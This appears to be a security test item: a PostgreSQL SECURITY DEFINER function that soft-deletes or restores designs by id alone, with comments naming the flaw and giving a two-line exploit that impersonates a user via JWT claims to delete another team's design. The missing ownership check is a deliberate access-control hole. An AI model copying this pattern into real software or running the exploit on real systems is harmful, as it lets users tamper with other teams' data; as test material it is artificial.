-- Any user deletes and restores designs of other teams, as the function with its owner's rights looks only
-- at the id.
-- about: set_deleted, designs
-- as: hf_mockups_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT 'deleted ' || design.set_deleted('b2000000-0000-4000-8000-000000000001', true);
-- shows: deleted Road-secret logo
-- Trash and restore. The update policy hides deleted rows from the client, so this goes through a function.
CREATE FUNCTION design.set_deleted(p_design uuid, p_deleted boolean) RETURNS text
LANGUAGE sql SECURITY DEFINER SET search_path = design, pg_temp AS $$
  UPDATE designs SET deleted_at = CASE WHEN p_deleted THEN now() END WHERE id = p_design RETURNING title
$$;
